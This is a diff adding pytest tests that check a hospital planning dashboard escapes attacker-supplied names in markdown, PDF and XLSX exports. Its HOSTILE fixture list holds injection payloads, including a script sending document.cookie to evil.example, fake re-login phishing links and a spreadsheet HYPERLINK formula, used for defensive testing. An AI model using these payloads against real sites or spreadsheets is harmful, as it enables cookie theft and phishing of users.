@@ -330,3 +330,67 @@ def test_dashboard_writes_spreadsheets_only_through_safe_writers():
             ):
                 offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}: {ast.unparse(node.func)}")
     assert offenders == []
+
+
+# --------------------------------------------------------------------------- no markup from data (issue 11)
+
+#: Strings an attacker can put into a hospital name, display name, CSV header or cell.
+HOSTILE = [
+    "![x](http://evil.example/pixel.png)",
+    "[请点此重新登录](http://evil.example/login)",
+    '<a href="http://evil.example/login">请点此重新登录</a>',
+    '<img src="http://evil.example/x.png"/>',
+    "<b>加粗</b><font color=red>红</font>",
+    ":red[警告] :material/warning: $x^2$ **粗体** `代码`",
+    "http://evil.example/autolink www.evil.example",
+    "<script>fetch('http://evil.example/'+document.cookie)</script>",
+    "& &amp; &lt; \\ \\\\ ]]> <![CDATA[x]]>",
+    '=HYPERLINK("http://evil.example","点我")',
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_markdown_helper_leaves_no_markup(text):
+    """CommonMark shows a backslash-escaped ASCII punctuation character as itself: no punctuation may stay bare."""
+    import re
+    import string
+
+    from dashboard.safe import md
+
+    out = md(text)
+    bare = re.sub(r"\\.", "", out)  # drop every escaped pair
+    assert not [c for c in bare if c in string.punctuation], out
+    assert "\n" not in out  # one line: no new block can start
+    assert re.sub(r"\\(.)", r"\1", out) == text  # unescaped, it is the text itself
+
+
+def test_hostile_hospital_names_come_out_inert_in_the_pdf_xlsx_and_csv(tmp_path_factory):
+    from pypdf import PdfReader
+    from sqlalchemy import update
+
+    from core.db.schema import Hospital
+    from core.trust.access import AccessScope
+    from planning.export.pdf import export_pdf
+    from planning.export.xlsx import export_xlsx
+    from planning.plan import make_plan
+    from tests._planning_store import HOSPITALS, MONTH, writable
+
+    engine = writable(tmp_path_factory, "hostile-pdf")
+    names = dict(zip(HOSPITALS, HOSTILE, strict=False))
+    with engine.begin() as conn:
+        for hid, name in names.items():
+            conn.execute(update(Hospital).where(Hospital.id == hid).values(name=name, district=name[:40]))
+    plan = make_plan(engine, month=MONTH, seed=3)
+    scope = AccessScope(role="commander", username="cmd")
+    data = export_pdf(plan, scope=scope)  # an <img> tag used to abort the export
+    reader = PdfReader(io.BytesIO(data))
+    annots = [a.get_object() for p in reader.pages for a in (p.get("/Annots") or [])]
+    assert not [a for a in annots if "/A" in a], "a link was injected into the PDF"
+    assert b"/URI" not in data
+    text = "".join(p.extract_text() for p in reader.pages)
+    listed = {h for h in plan.actions["hospital_id"]} if len(plan.actions) else set()
+    for hid in listed:
+        assert names[hid].replace(" ", "")[:12] in text.replace(" ", "").replace("\n", "")
+    wb = load_workbook(io.BytesIO(export_xlsx(plan, scope=scope)))
+    cells = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert not [c for c in cells if c[:1] in "=+-@\t\r"]
